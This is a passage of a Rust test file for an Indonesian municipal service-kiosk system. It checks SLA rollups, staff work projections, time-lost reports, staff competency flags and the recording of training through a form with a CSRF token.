        let created = start_ms + next(30 * 24 * 60) as i64 * 60_000;
        let finished = match next(4) {
            0 => None,
            _ => Some(created + next(9 * 24 * 60) as i64 * 60_000),
        };
        let working = finished.map(|f| walked_working_ms(created, f, wib));
        if let (Some(f), Some(w)) = (finished, working) {
            assert_eq!(plain_calendars().of_kelurahan("").working_between(created, f), w);
        }
        let e = expected.entry(kel).or_default();
        e.0 += 1;
        let in_period = finished.is_some_and(|f| f < start_ms + 30 * 86_400_000);
        if in_period {
            e.1 += 1;
            if working.unwrap() <= sla_days * 86_400_000 {
                e.2 += 1;
            }
        }
        if finished.is_none() {
            e.3 += 1;
        }
        rows.push((i, kel, service, created, finished, working));
    }
    f.state
        .db
        .sqlite()
        .unwrap()
        .raw_write(|tx| -> Result<(), crate::store::StoreError> {
            for (i, kel, service, created, finished, working) in &rows {
                tx.execute(
                    "INSERT INTO requests (doc_id, ticket, kelurahan, kiosk, service, status, conflict, agency,
                                           rated, created_at_ms, updated_at_ms, finished_at_ms, working_ms)
                     VALUES (?1, 'K001-1101-001', ?2, 'K001', ?3, ?4, 0, NULL, 0, ?5, ?5, ?6, ?7)",
                    rusqlite::params![
                        format!("doc-{i:04}"),
                        kel,
                        service,
                        if finished.is_some() { "completed" } else { "in_progress" },
                        created,
                        finished,
                        working
                    ],
                )?;
            }
            Ok(())
        })
        .unwrap();
    f.state.db.write(crate::store::projection::rebuild_rollups).unwrap();
    let web_token = web_session(&f);
    let req = Request::builder()
        .uri("/admin/ringkasan?periode=2026-11&per=kelurahan")
        .header(header::COOKIE, format!("__Host-loket_session={web_token}"))
        .body(Body::empty())
        .unwrap();
    let resp = f.app.clone().oneshot(req).await.unwrap();
    let status = resp.status();
    let html = String::from_utf8(axum::body::to_bytes(resp.into_body(), 1 << 22).await.unwrap().to_vec()).unwrap();
    assert_eq!(status, StatusCode::OK, "{html}");
    let cells = |kel: &str| -> Vec<String> {
        let at = html.find(&format!("data-key=\"{kel}\"")).unwrap_or_else(|| panic!("{kel} on the page"));
        let row = &html[at..at + html[at..].find("</tr>").unwrap()];
        row.split("<td").skip(1).map(|c| c[c.find('>').unwrap() + 1..c.find("</td>").unwrap()].to_owned()).collect()
    };
    for (kel, (filed, finished, within, open)) in &expected {
        let c = cells(kel);
        let pct = if *finished > 0 {
            format!("{:.1}%", (*within as f64 * 1000.0 / *finished as f64).round() / 10.0)
        } else {
            "—".into()
        };
        // Filed, finished, rejected, cancelled, within, SLA %, open, conflicts.
        assert_eq!(
            c[2..10],
            [
                filed.to_string(),
                finished.to_string(),
                "0".into(),
                "0".into(),
                within.to_string(),
                pct,
                open.to_string(),
                "0".into()
            ],
            "{kel}"
        );
    }
    assert!(expected.values().any(|e| e.2 < e.1), "some requests missed their SLA");
    assert!(expected.values().any(|e| e.2 > 0), "and some met it");
}

/// `request_staff`, which the staff competency page reads, follows the
/// projections in any arrival order: a request's steps before its finish,
/// a finish moved later, ratings arriving highest id first; and the fill
/// an existing store gets on first start equals what the triggers keep.
#[test]
fn staff_work_rows_follow_the_projections_in_any_order() {
    let f = fixture();
    f.state.db.write(|tx| crate::central::ensure_catalog(tx, &f.state.writer)).unwrap();
    let nov = 1_793_466_000_000i64; // 2026-11-01 00:00 WIB
    let (clerk, other) = ("198503122010011002", "199001012015011001");
    // (doc, nip, last step, finished, working ms, within SLA, U6, U7)
    type Row = (String, String, i64, i64, Option<i64>, i64, Option<i64>, Option<i64>);
    let rows = || -> Vec<Row> {
        f.state
            .db
            .sqlite()
            .unwrap()
            .raw_read(|c| {
                let mut stmt = c.prepare(
                    "SELECT doc_id, nip, last_at_ms, finished, working_ms, within_sla, u6, u7
                     FROM request_staff ORDER BY doc_id, nip",
                )?;
                let rows = stmt.query_map([], |r| {
                    Ok((r.get(0)?, r.get(1)?, r.get(2)?, r.get(3)?, r.get(4)?, r.get(5)?, r.get(6)?, r.get(7)?))
                })?;
                Ok::<_, crate::store::StoreError>(rows.collect::<Result<Vec<_>, _>>()?)
            })
            .unwrap()
    };
    let sql = |q: &str, p: &[&dyn rusqlite::ToSql]| {
        f.state
            .db
            .sqlite()
            .unwrap()
            .raw_write(|tx| -> Result<usize, crate::store::StoreError> { Ok(tx.execute(q, p)?) })
            .unwrap();
        f.state.db.write(crate::store::projection::rebuild_rollups).unwrap();
    };
    // The request, open, with its journey: the filing (not staff work), two
    // steps by the clerk, one by a colleague, a citizen's and an agency's
    // (neither is staff).
    let journey: Vec<crate::store::projection::EventRow> = [
        ("citizen", "create"),
        (clerk, "transition"),
        (other, "transition"),
        (clerk, "transition"),
        ("citizen", "transition"),
        ("agency:DISDUKCAPIL:rina", "transition"),
    ]
    .iter()
    .enumerate()
    .map(|(i, (by, kind))| (nov + i as i64 * 60_000, by.to_string(), kind.to_string(), "in_progress".into(), None))
    .collect();
    let journey = crate::store::projection::pack_journey(&journey).unwrap();
    sql(
        "INSERT INTO requests (doc_id, ticket, kelurahan, kiosk, service, status, conflict, agency,
                               rated, created_at_ms, updated_at_ms, finished_at_ms, working_ms, journey)
         VALUES ('d1', 'K001-1101-001', '12.71.01.1001', 'K001', 'SKD', 'in_progress', 0, NULL, 0,
                 ?1, ?1, NULL, NULL, ?2)",
        &[&nov, &journey],
    );
    assert_eq!(
        rows(),
        [
            ("d1".into(), clerk.into(), nov + 180_000, 0, None, 0, None, None),
            ("d1".into(), other.into(), nov + 120_000, 0, None, 0, None, None)
        ]
    );
    // It finishes within its one working day (SKD).
    sql(
        "UPDATE requests SET status = 'completed', finished_at_ms = ?1, working_ms = 3600000 WHERE doc_id = 'd1'",
        &[&(nov + 3_600_000)],
    );
    assert!(rows().iter().all(|r| (r.3, r.4, r.5) == (1, Some(3_600_000), 1)), "{:?}", rows());
    // A later merge moves the finish past the SLA.
    sql("UPDATE requests SET working_ms = 2 * 86400000 + 1 WHERE doc_id = 'd1'", &[]);
    assert!(rows().iter().all(|r| (r.4, r.5) == (Some(2 * 86_400_000 + 1), 0)), "{:?}", rows());
    // Ratings, the higher id first: the lowest id's U6/U7 count.
    let rating = "INSERT INTO ratings (doc_id, rating_id, at_ms, u1, u2, u3, u4, u5, u6, u7, u8, u9)
                  VALUES ('d1', ?1, ?2, 3, 3, 3, 3, 3, ?3, ?4, 3, 3)";
    sql(rating, &[&"r-b", &nov, &4, &4]);
    assert!(rows().iter().all(|r| (r.6, r.7) == (Some(4), Some(4))), "{:?}", rows());
    sql(rating, &[&"r-a", &nov, &1, &2]);
    assert!(rows().iter().all(|r| (r.6, r.7) == (Some(1), Some(2))), "r-a is the first: {:?}", rows());
    sql(rating, &[&"r-c", &nov, &3, &3]);
    assert!(rows().iter().all(|r| (r.6, r.7) == (Some(1), Some(2))), "a later id changes nothing: {:?}", rows());

    // An existing store gets the same rows on first start.
    let kept = rows();
    f.state
        .db
        .sqlite()
        .unwrap()
        .raw_write(|tx| -> Result<(), crate::store::StoreError> {
            // A store from before `request_staff`: the first migration
            // fills it from the projections.
            tx.execute_batch("DROP TABLE request_staff; UPDATE meta SET value = '0' WHERE key = 'schema_version'")?;
            Ok(())
        })
        .unwrap();
    crate::store::migrate::run(&f.state.db).unwrap();
    assert_eq!(rows(), kept);
}

#[test]
fn rollups_follow_updates_and_count_only_the_first_rating() {
    let f = fixture();
    f.state.db.write(|tx| crate::central::ensure_catalog(tx, &f.state.writer)).unwrap();
    let monthly = |month: i64| -> (i64, i64, i64, i64, i64) {
        f.state
            .db
            .sqlite()
            .unwrap()
            .raw_read(|c| {
                Ok::<_, crate::store::StoreError>(c.query_row(
                    "SELECT coalesce(sum(filed), 0), coalesce(sum(finished), 0), coalesce(sum(within_sla), 0),
                            coalesce(sum(respondents), 0), coalesce(sum(u1), 0)
                     FROM monthly WHERE month = ?1",
                    [month],
                    |r| Ok((r.get(0)?, r.get(1)?, r.get(2)?, r.get(3)?, r.get(4)?)),
                )?)
            })
            .unwrap()
    };
    let nov = 1_793_466_000_000i64; // 2026-11-01 00:00 WIB
    let dec = 1_796_058_000_000i64; // 2026-12-01 00:00 WIB
    f.state
        .db
        .sqlite()
        .unwrap()
        .raw_write(|tx| -> Result<(), crate::store::StoreError> {
            tx.execute(
                "INSERT INTO requests (doc_id, ticket, kelurahan, kiosk, service, status, conflict, agency,
                                       rated, created_at_ms, updated_at_ms, finished_at_ms, working_ms)
                 VALUES ('d1', 'K001-1101-001', '12.71.01.1001', 'K001', 'SKD', 'in_progress', 0, NULL, 0,
                         ?1, ?1, NULL, NULL)",
                [nov + 86_400_000],
            )?;
            Ok(())
        })
        .unwrap();
    f.state.db.write(crate::store::projection::rebuild_rollups).unwrap();
    assert_eq!(monthly(202611), (1, 0, 0, 0, 0), "filed in November, open");
    // It finishes in November within its one working day...
    f.state
        .db
        .sqlite()
        .unwrap()
        .raw_write(|tx| -> Result<usize, crate::store::StoreError> {
            Ok(tx.execute(
                "UPDATE requests SET finished_at_ms = ?1, working_ms = 3600000 WHERE doc_id = 'd1'",
                [nov + 2 * 86_400_000],
            )?)
        })
        .unwrap();
    f.state.db.write(crate::store::projection::rebuild_rollups).unwrap();
    assert_eq!(monthly(202611), (1, 1, 1, 0, 0));
    // ...then a later merge moves the finish to December, beyond the SLA.
    f.state
        .db
        .sqlite()
        .unwrap()
        .raw_write(|tx| -> Result<usize, crate::store::StoreError> {
            Ok(tx.execute(
                "UPDATE requests SET finished_at_ms = ?1, working_ms = 400000000 WHERE doc_id = 'd1'",
                [dec + 3_600_000],
            )?)
        })
        .unwrap();
    f.state.db.write(crate::store::projection::rebuild_rollups).unwrap();
    assert_eq!(monthly(202611), (1, 0, 0, 0, 0));
    assert_eq!(monthly(202612), (0, 1, 0, 0, 0));
    // Two concurrent ratings: the one with the lower id counts, whichever arrives first.
    let rate = |id: &str, u1: i64| {
        f.state
            .db
            .sqlite()
            .unwrap()
            .raw_write(|tx| -> Result<usize, crate::store::StoreError> {
                Ok(tx.execute(
                    "INSERT INTO ratings (doc_id, rating_id, at_ms, u1, u2, u3, u4, u5, u6, u7, u8, u9)
                     VALUES ('d1', ?1, ?2, ?3, 3, 3, 3, 3, 3, 3, 3, 3)",
                    rusqlite::params![id, dec + 7_200_000, u1],
                )?)
            })
            .unwrap();
        f.state.db.write(crate::store::projection::rebuild_rollups).unwrap();
    };
    rate("r-b", 4);
    assert_eq!(monthly(202612), (0, 1, 0, 1, 4));
    rate("r-a", 1);
    assert_eq!(monthly(202612), (0, 1, 0, 1, 1), "r-a replaces r-b");
    rate("r-c", 2);
    assert_eq!(monthly(202612), (0, 1, 0, 1, 1), "a later, higher id changes nothing");
}

#[tokio::test]
async fn time_lost_finds_the_longest_step_and_ignores_clocks_days_off() {
    let f = fixture();
    f.state.db.write(|tx| crate::central::ensure_catalog(tx, &f.state.writer)).unwrap();
    let h = 3_600_000i64;
    let mon = 1_795_366_800_000i64 + 9 * h; // Monday 2026-11-23 09:00 WIB
    // (doc, created, finished, events: (at, to, agency))
    type Steps = Vec<(i64, &'static str, Option<&'static str>)>;
    let requests: Vec<(&str, i64, i64, Steps)> = vec![
        (
            "slow",
            mon,
            mon + 3 * 24 * h + 3 * h,
            vec![
                (mon, "submitted", None),
                (mon + h, "in_progress", None),
                // Two days waiting at Disdukcapil, one day worked on there,
                // then returned.
                (mon + 2 * h, "handed_off", Some("DISDUKCAPIL")),
                (mon + 2 * 24 * h + 2 * h, "in_progress", Some("DISDUKCAPIL")),
                (mon + 3 * 24 * h + 2 * h, "in_progress", None),
                (mon + 3 * 24 * h + 3 * h, "completed", None),
            ],
        ),
        (
            "quick",
            mon,
            mon + h,
            vec![(mon, "submitted", None), (mon + h / 2, "in_progress", None), (mon + h, "completed", None)],
        ),
        (
            // The kiosk's clock was five days behind when it took the request.
            "skewed",
            mon,
            mon + 3 * h,
            vec![(mon, "submitted", None), (mon - 5 * 24 * h, "in_progress", None), (mon + 3 * h, "completed", None)],
        ),
    ];
    f.state
        .db
        .sqlite()
        .unwrap()
        .raw_write(|tx| -> Result<(), crate::store::StoreError> {
            for (i, (doc, created, finished, events)) in requests.iter().enumerate() {
                let working = plain_calendars().of_kelurahan("").working_between(*created, *finished);
                tx.execute(
                    "INSERT INTO requests (doc_id, ticket, kelurahan, kiosk, service, status, conflict, agency,
                                           rated, created_at_ms, updated_at_ms, finished_at_ms, working_ms)
                     VALUES (?1, ?2, '12.71.01.1001', 'K001', 'SKD', 'completed', 0, NULL, 0, ?3, ?4, ?4, ?5)",
                    rusqlite::params![doc, format!("K001-1123-00{i}"), created, finished, working],
                )?;
                let journey: Vec<crate::store::projection::EventRow> = events
                    .iter()
                    .map(|(at, to, agency)| {
                        (*at, "x".to_string(), "transition".to_string(), to.to_string(), agency.map(str::to_owned))
                    })
                    .collect();
                tx.execute(
                    "UPDATE requests SET journey = ?2 WHERE doc_id = ?1",
                    rusqlite::params![doc, crate::store::projection::pack_journey(&journey)?],
                )?;
            }
            Ok(())
        })
        .unwrap();
    f.state.db.write(crate::store::projection::rebuild_rollups).unwrap();
    // Written straight into the projections, as a tool would: the step
    // times are measured again from them.
    assert_eq!(f.state.db.write(|tx| crate::store::projection::rebuild_request_steps(tx)).unwrap(), 3);
    // The admin reads the city's step histograms; a supervisor of the
    // kelurahan gets the exact figures from the journeys themselves. Both
    // must say the same.
    setup::add_user(
        &setup::Place::local(&f.state.config.data),
        NewUser {
            username: "lurah-pb".parse().unwrap(),
            password: "rahasia-lurah-1".into(),
            role: Role::Supervisor,
            agency: None,
            region: Vec::new(),
            kelurahan: Some("12.71.01.1001".parse().unwrap()),
        },
    )
    .unwrap();
    for user in ["admin", "lurah-pb"] {
        time_lost_page_says(&f, user).await;
    }
}

async fn time_lost_page_says(f: &Fixture, user: &str) {
    let web_token = web_session_for(f, user);
    let get = |uri: &str| {
        Request::builder()
            .uri(uri)
            .header(header::COOKIE, format!("__Host-loket_session={web_token}"))
            .body(Body::empty())
            .unwrap()
    };
    let resp = f.app.clone().oneshot(get("/admin/waktu/pelanggaran.csv?periode=2026-11")).await.unwrap();
    assert_eq!(resp.status(), StatusCode::OK);
    let bytes = axum::body::to_bytes(resp.into_body(), 1 << 20).await.unwrap();
    let text = String::from_utf8(bytes.to_vec()).unwrap();
    let lines: Vec<&str> = text.lines().collect();
    assert_eq!(lines.len(), 2, "only the slow one breached its one working day: {text}");
    assert!(lines[1].starts_with("K001-1123-000,12.71.01.1001,Pasar Baru,"), "{text}");
    // Mon 09:00 to Thu 12:00 in 8-hour days: 7 + 8 + 8 + 4 hours = 3.375 days.
    assert!(lines[1].ends_with(",3.38,1,handed_off,DISDUKCAPIL,2.00"), "{user}: {text}");

    let resp = f.app.clone().oneshot(get("/admin/waktu?periode=2026-11")).await.unwrap();
    assert_eq!(resp.status(), StatusCode::OK);
    let html = String::from_utf8(axum::body::to_bytes(resp.into_body(), 1 << 22).await.unwrap().to_vec()).unwrap();
    let row = |marker: &str| {
        let at = html.find(marker).unwrap_or_else(|| panic!("{marker}"));
        html[at..at + html[at..].find("</tr>").unwrap()].to_owned()
    };
    // Working days of 8 service hours; the whole city reads 2 % buckets
    // (within 1 %), so figures are compared to 1 % and the printed
    // hundredth.
    let has_days = |row: &str, want: f64| {
        row.split(" hari kerja")
            .filter_map(|part| part.rsplit(|c: char| !(c.is_ascii_digit() || c == '.')).next())
            .filter_map(|n| n.parse::<f64>().ok())
            .any(|x| (x - want).abs() <= want * 0.01 + 0.005)
    };
    // Mon 11:00 to Wed 11:00 waiting at Disdukcapil: 5 + 8 + 3 hours.
    let waiting = row("data-agency=\"DISDUKCAPIL\" data-status=\"handed_off\"");
    assert!(has_days(&waiting, 2.0), "{user}: {waiting}");
    let worked = row("data-agency=\"DISDUKCAPIL\" data-status=\"in_progress\"");
    assert!(has_days(&worked, 1.0), "{user}: {worked}");
    // The skewed clock neither adds days to "submitted" nor goes negative:
    // the three "submitted" steps took 1 h, 0.5 h and 0 h (median 0.5 h,
    // p90 1 h: 0.0625 and 0.125 days).
    let submitted = row("data-status=\"submitted\"");
    assert!(
        submitted.contains(">3<") && has_days(&submitted, 0.0625) && has_days(&submitted, 0.125),
        "{user}: {submitted}"
    );
    assert!(html.contains("<strong>3</strong> permohonan selesai"), "{user}: every finished request counted");
    assert!(html.contains("Melewati SLA (1)"), "{user}: the breach counted");
    // Whole journeys at Pasar Baru: 1 h, 3 h and 27 h (median 3 h = 0.375
    // days, p90 3.375 days).
    let kelurahan = row("tr data-key=\"12.71.01.1001\"");
    assert!(
        kelurahan.contains(">3<") && has_days(&kelurahan, 0.375) && has_days(&kelurahan, 3.375),
        "{user}: {kelurahan}"
    );
}

/// Issue 15, item 10: a clerk who moved from Pasar Baru to Lalang is on
/// both rosters (inactive at Pasar Baru). The page lists them once, under
/// Lalang, with all their work (3 requests at each office, all rated U6
/// 2: judged on 6 ratings, flagged once); neither office is flagged for
/// them, as each holds only 3 of their ratings; and a colleague with 4
/// low ratings is not flagged at all. (Before, the register had a row per
/// roster with the same totals, and both offices counted all six.)
#[tokio::test]
async fn a_clerk_who_moved_is_listed_once_and_judged_on_enough_ratings() {
    let f = fixture();
    f.state.db.write(|tx| crate::central::ensure_catalog(tx, &f.state.writer)).unwrap();
    let token = admin_token(&f.app).await;
    let (moved, few) = ("198811042014031002", "199001012015011001");
    let (pasar_baru, lalang) = ("12.71.01.1001", "12.71.02.1001");
    for (kel, nip, name, active) in [
        (pasar_baru, moved, "Andi Nasution", false),
        (lalang, moved, "Andi Nasution", true),
        (pasar_baru, few, "Sari Petugas", true),
    ] {
        let (status, body) = call(
            &f.app,
            "PUT",
            &format!("/api/admin/rosters/{kel}/staff/{nip}"),
            Some(&token),
            Some(json!({ "name": name, "role": "staff", "password": "rahasia-petugas-1", "active": active })),
        )
        .await;
        assert!(status.is_success(), "{body}");
    }
    let at = 1_780_246_800_000i64; // 2026-06-01 00:00 WIB
    // (kelurahan, nip) of each finished, rated request: U6 and U7 2.
    let mut handled: Vec<(&str, &str)> = vec![(pasar_baru, moved); 3];
    handled.extend([(lalang, moved); 3]);
    handled.extend([(pasar_baru, few); 4]);
    f.state
        .db
        .sqlite()
        .unwrap()
        .raw_write(|tx| -> Result<(), crate::store::StoreError> {
            for (n, (kel, nip)) in handled.iter().enumerate() {
                let at = at + n as i64 * 3_600_000;
                let id = format!("doc-{n:03}");
                tx.execute(
                    "INSERT INTO requests (doc_id, ticket, kelurahan, kiosk, service, status, conflict, agency,
                                           rated, created_at_ms, updated_at_ms, finished_at_ms, working_ms)
                     VALUES (?1, 'K001-0601-001', ?2, 'K001', 'SKD', 'completed', 0, NULL, 1,
                             ?3, ?3, ?4, 3600000)",
                    rusqlite::params![id, kel, at, at + 60_000],
                )?;
                let journey = [(at + 60_000, nip.to_string(), "transition".to_string(), "completed".to_string(), None)];
                tx.execute(
                    "UPDATE requests SET journey = ?2 WHERE doc_id = ?1",
                    rusqlite::params![id, crate::store::projection::pack_journey(&journey)?],
                )?;
                tx.execute(
                    "INSERT INTO ratings (doc_id, rating_id, at_ms, u1, u2, u3, u4, u5, u6, u7, u8, u9)
                     VALUES (?1, 'r', ?2, 3, 3, 3, 3, 3, 2, 2, 3, 3)",
                    rusqlite::params![id, at + 120_000],
                )?;
            }
            Ok(())
        })
        .unwrap();
    f.state.db.write(crate::store::projection::rebuild_rollups).unwrap();
    let req = Request::builder()
        .uri("/admin/staf?periode=2026")
        .header(header::COOKIE, format!("__Host-loket_session={}", web_session(&f)))
        .body(Body::empty())
        .unwrap();
    let resp = f.app.clone().oneshot(req).await.unwrap();
    assert_eq!(resp.status(), StatusCode::OK);
    let html = String::from_utf8(axum::body::to_bytes(resp.into_body(), 1 << 22).await.unwrap().to_vec()).unwrap();
    let section = |from: &str, to: &str| -> String {
        let a = html.find(from).unwrap_or_else(|| panic!("{from}"));
        html[a..a + html[a..].find(to).unwrap_or(html.len() - a)].to_owned()
    };
    let register = section("id=\"register\"", "</table>");
    assert_eq!(register.matches(&format!("data-nip=\"{moved}\"")).count(), 1, "once: {register}");
    let at = register.find(&format!("<tr data-nip=\"{moved}\"")).unwrap();
    let row = &register[at..at + register[at..].find("</tr>").unwrap()];
    assert!(row.contains("Lalang (12.71.02.1001)") && row.contains("sebelumnya: Pasar Baru (12.71.01.1001)"), "{row}");
    assert!(row.contains("ditangani di: Pasar Baru 3, Lalang 3"), "{row}");
    // Six requests, six ratings, U6 2.0000 (below B, judged).
    let cells: Vec<&str> = row.split("<td class=\"num\">").skip(1).map(|c| c.split("</td>").next().unwrap()).collect();
    assert_eq!(
        cells,
        ["6", "0.04", "100%", "6", "<strong class=\"bad\">2.0000</strong>", "<strong class=\"bad\">2.0000</strong>"],
        "{row}"
    );
    let needs = section("id=\"needs\"", "</table>");
    assert_eq!(needs.matches("<tr data-nip=").count(), 1, "only the mover: {needs}");
    assert!(needs.contains(&format!("data-nip=\"{moved}\"")), "{needs}");
    assert!(needs.contains("U6 kompetensi 2.0000 di bawah B, dari 6 penilaian"), "{needs}");
    // Four low ratings are too few: shown as a dash, never flagged.
    let at = register.find(&format!("<tr data-nip=\"{few}\"")).unwrap();
    let few_row = &register[at..at + register[at..].find("</tr>").unwrap()];
    assert!(few_row.contains("title=\"kurang dari 5 penilaian\">—"), "{few_row}");
    // Pasar Baru: the mover's 3 and Sari's 4, 7 ratings of U6 2: judged on
    // its own work and flagged; Lalang, 3 ratings, is not.
    let offices = section("id=\"needs-offices\"", "</table>");
    assert!(offices.contains("data-key=\"12.71.01.1001\"") && offices.contains("dari 7 penilaian"), "{offices}");
    assert!(!offices.contains("data-key=\"12.71.02.1001\""), "{offices}");
}

#[tokio::test]
async fn staff_competency_ranks_training_needs_and_compares_before_and_after() {
    let f = fixture();
    f.state.db.write(|tx| crate::central::ensure_catalog(tx, &f.state.writer)).unwrap();
    let token = admin_token(&f.app).await;
    let (weak, strong) = ("198503122010011002", "199001012015011001");
    for (nip, name) in [(weak, "Budi Petugas"), (strong, "Sari Petugas")] {
        let (status, body) = call(
            &f.app,
            "PUT",
            &format!("/api/admin/rosters/12.71.01.1001/staff/{nip}"),
            Some(&token),
            Some(json!({ "name": name, "role": "staff", "password": "rahasia-petugas-1" })),
        )
        .await;
        assert!(status.is_success(), "{body}");
    }
    let training_day = 1_780_246_800_000i64; // 2026-06-01 00:00 WIB
    let day = 86_400_000i64;
    // (nip, days from the training, u6, u7), six each.
    let mut handled: Vec<(&str, i64, i64, i64)> = Vec::new();
    for i in 0..6 {
        handled.push((weak, -60 + i, 2, 3));
        handled.push((weak, 10 + i, 4, 4));
        handled.push((strong, 20 + i, 4, 4));
    }
    f.state
        .db
        .sqlite()
        .unwrap()
        .raw_write(|tx| -> Result<(), crate::store::StoreError> {
            for (n, (nip, offset, u6, u7)) in handled.iter().enumerate() {
                let at = training_day + offset * day + 3_600_000;
                let id = format!("doc-{n:03}");
                tx.execute(
                    "INSERT INTO requests (doc_id, ticket, kelurahan, kiosk, service, status, conflict, agency,
                                           rated, created_at_ms, updated_at_ms, finished_at_ms, working_ms)
                     VALUES (?1, 'K001-0601-001', '12.71.01.1001', 'K001', 'SKD', 'completed', 0, NULL, 1,
                             ?2, ?2, ?3, 3600000)",
                    rusqlite::params![id, at, at + 3_600_000],
                )?;
                // The citizen also acts (a cancellation is a transition by
                // `citizen`): that is nobody's staff work.
                let steps =
                    [("create", "citizen"), ("transition", *nip), ("transition", *nip), ("transition", "citizen")];
                let journey: Vec<crate::store::projection::EventRow> = steps
                    .iter()
                    .enumerate()
                    .map(|(e, (kind, by))| {
                        (at + e as i64, by.to_string(), kind.to_string(), "in_progress".into(), None)
                    })
                    .collect();
                tx.execute(
                    "UPDATE requests SET journey = ?2 WHERE doc_id = ?1",
                    rusqlite::params![id, crate::store::projection::pack_journey(&journey)?],
                )?;
                tx.execute(
                    "INSERT INTO ratings (doc_id, rating_id, at_ms, u1, u2, u3, u4, u5, u6, u7, u8, u9)
                     VALUES (?1, 'r', ?2, 3, 3, 3, 3, 3, ?3, ?4, 3, 3)",
                    rusqlite::params![id, at + 7_200_000, u6, u7],
                )?;
            }
            Ok(())
        })
        .unwrap();
    f.state.db.write(crate::store::projection::rebuild_rollups).unwrap();
    let web_token = web_session(&f);
    let page = |cookie: String| {
        let app = f.app.clone();
        async move {
            let req = Request::builder()
                .uri("/admin/staf?periode=2026")
                .header(header::COOKIE, cookie)
                .body(Body::empty())
                .unwrap();
            let resp = app.oneshot(req).await.unwrap();
            let set: Vec<String> =
                resp.headers().get_all(header::SET_COOKIE).iter().map(|v| v.to_str().unwrap().to_owned()).collect();
            let status = resp.status();
            let html =
                String::from_utf8(axum::body::to_bytes(resp.into_body(), 1 << 22).await.unwrap().to_vec()).unwrap();
            (status, set, html)
        }
    };
    let session = format!("__Host-loket_session={web_token}");
    let (status, set, html) = page(session.clone()).await;
    assert_eq!(status, StatusCode::OK, "{html}");
    // The weak one (U6 over the year: (6×2 + 6×4) / 12 = 3.00 < 3.0644) needs training; the other does not.
    let needs = &html[html.find("id=\"needs\"").unwrap()..html.find("id=\"trainings").unwrap()];
    assert!(needs.contains(&format!("data-nip=\"{weak}\"")), "{needs}");
    assert!(!needs.contains(&format!("data-nip=\"{strong}\"")), "{needs}");
    // To the 4 decimals of the B threshold (3.0644), with the reason and
    // what it is judged on.
    assert!(needs.contains("<strong class=\"bad\">3.0000</strong>"), "U6 shown: {needs}");
    assert!(needs.contains("U6 kompetensi 3.0000 di bawah B, dari 12 penilaian"), "the reason: {needs}");
    // The office (18 ratings, U6 (12 + 24 + 24) / 18 = 3.33) does not.
    assert!(!needs.contains("id=\"needs-offices\""), "{needs}");
    let admin = crate::auth::User {
        username: "admin".parse().unwrap(),
        role: Role::Admin,
        agency: None,
        kelurahan: None,
        region: Vec::new(),
    };
    let work = crate::ops::reports::staff_work(&f.state.db, &admin, (0, i64::MAX / 2), None, None).await.unwrap();
    let mut staff = vec![strong, weak];
    staff.sort_unstable();
    assert_eq!(work.people(), staff, "citizens are not staff");
    // The whole city's monthly rollup says what the rows say.
    let rolled = crate::ops::reports::staff_work(&f.state.db, &admin, (0, i64::MAX / 2), Some((0, 999_912)), None)
        .await
        .unwrap();
    let figures = |w: &crate::ops::reports::StaffWork| (w.handled, w.finished, w.within_sla, w.rated, w.u6, w.u7);
    assert_eq!(
        rolled.entries().map(|(n, k, w)| (n, k, figures(w))).collect::<Vec<_>>(),
        work.entries().map(|(n, k, w)| (n, k, figures(w))).collect::<Vec<_>>()
    );

    // Record the training through the form (CSRF token of this browser).
    let (cookies, csrf) = csrf_of(&session, &set, &html);
    let form = |hours: &str, competency: &str| {
        format!(
            "csrf={csrf}&nip={weak}&day=2026-06-01&topic=Pelayanan+prima&provider=BKPSDM+Medan&hours={hours}&competency={competency}"
        )
    };
    // JP: a whole number from 1 to 200; a competency from the list. A
    // refusal records nothing.
    for (hours, competency, want) in [
        ("0", "pelayanan", "invalid_hours"),
        ("-3", "pelayanan", "invalid_hours"),
        ("201", "pelayanan", "invalid_hours"),
        ("2.5", "pelayanan", "invalid_hours"),
        ("", "pelayanan", "invalid_hours"),
        ("12", "kepemimpinan", "invalid_competency"),
        ("12", "", "invalid_competency"),
    ] {
        let resp = post_form(&f, &cookies, "/admin/staf/pelatihan", form(hours, competency)).await;
        assert_eq!(resp.status(), StatusCode::UNPROCESSABLE_ENTITY, "{hours} {competency}");
        let text = String::from_utf8(axum::body::to_bytes(resp.into_body(), 1 << 20).await.unwrap().to_vec()).unwrap();
        assert!(text.contains(want), "{hours} {competency}: {text}");
    }
    let stranger =
        format!("csrf={csrf}&nip=198807202019031004&day=2026-06-01&topic=X&provider=Y&hours=8&competency=komunikasi");
    let resp = post_form(&f, &cookies, "/admin/staf/pelatihan", stranger).await;
    assert_eq!(resp.status(), StatusCode::UNPROCESSABLE_ENTITY, "a NIP on no roster");
    let count = |f: &Fixture| {
        f.state
            .db
            .read(|c| crate::store::sql::scalar::<i64>(c, "SELECT count(*) FROM trainings", crate::args![]))
            .unwrap()
    };
    assert_eq!(count(&f), Some(0), "nothing of the refused forms is stored");
    let resp = post_form(&f, &cookies, "/admin/staf/pelatihan", form("12", "penanganan_pengaduan")).await;
    assert_eq!(resp.status(), StatusCode::SEE_OTHER);
    let (_, _, html) = page(cookies.clone()).await;
    // 12 JP of the 20 an ASN is owed this year: short, marked; the other has none.
    let register = &html[html.find("id=\"register\"").unwrap()..];
    let weak_row = &register[register.find(&format!("data-nip=\"{weak}\"")).unwrap()..];
    let weak_row = &weak_row[..weak_row.find("</tr>").unwrap()];
    assert!(weak_row.contains("<strong class=\"bad\">12 / 20 JP</strong>"), "{weak_row}");
    assert!(weak_row.contains(">PNS<"), "{weak_row}");
    let resp = post_form(&f, &cookies, "/admin/staf/pelatihan", form("200", "komunikasi")).await;
    assert_eq!(resp.status(), StatusCode::SEE_OTHER, "200 JP is the most one record may carry");
    let (_, _, html) = page(cookies.clone()).await;
    let register = &html[html.find("id=\"register\"").unwrap()..];
    let weak_row = &register[register.find(&format!("data-nip=\"{weak}\"")).unwrap()..];
    assert!(weak_row[..weak_row.find("</tr>").unwrap()].contains(">212 / 20 JP<"), "{weak_row}");
    // The periode chosen is named as an official writes it.
    assert!(html.contains("data-code=\"2026\">Tahun 2026<"), "period label");
    let at = html.find(&format!("<tr data-nip=\"{weak}\"><td>2026-06-01")).expect("the training is listed");
    let row = &html[at..at + html[at..].find("</tr>").unwrap()];
    // Both records are listed with what they build (the later-recorded first).
    assert!(row.contains("<td class=\"competency\">Komunikasi</td>"), "{row}");
    assert!(html.contains("<td class=\"competency\">Penanganan pengaduan</td>"));
    // U6 2.0000 before (bold: below B), 4.0000 after; U7 3.0000 → 4.0000;
    // six ratings on each side, above the minimum of five.
